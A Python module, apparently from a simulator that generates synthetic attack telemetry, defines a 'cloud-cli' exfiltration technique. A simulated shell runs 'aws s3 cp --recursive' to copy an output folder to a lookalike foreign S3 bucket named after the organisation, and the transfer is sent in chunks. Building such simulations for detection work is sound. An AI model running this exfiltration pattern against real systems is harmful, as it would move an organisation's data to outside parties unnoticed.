"""A copy goes to a bucket of somebody else's, at the provider that the organisation uses too."""

from __future__ import annotations

from ..doing import Doing
from ..place import Place
from ..technique import Plan, Technique
from ..work import Visit

_PART = 8_000_000


def _visits(plan: Plan) -> list[Visit]:
    size, word = plan.amount(), plan.place("https").name.split(".")[1]
    ip = f"52.219.{plan.draw.randrange(1, 255)}.{plan.draw.randrange(1, 255)}"
    place = Place(f"{word}-share.s3.eu-central-1.amazonaws.com", ip, "https")

    def act(doing: Doing) -> None:
        actor = doing.shell.run("aws", "s3", "cp", "--recursive", "out/", f"s3://{word}-share/", seconds=0.0)
        parts = max(1, min(12, int(size / _PART)))
        for _ in range(parts):
            doing.shell.send(doing.draw, actor, place, size / parts * 1.01, 7000)

    return [plan.visit(plan.day(), act)]


TECHNIQUE = Technique("cloud-cli", 4, "aws s3 cp to a foreign bucket", _visits)
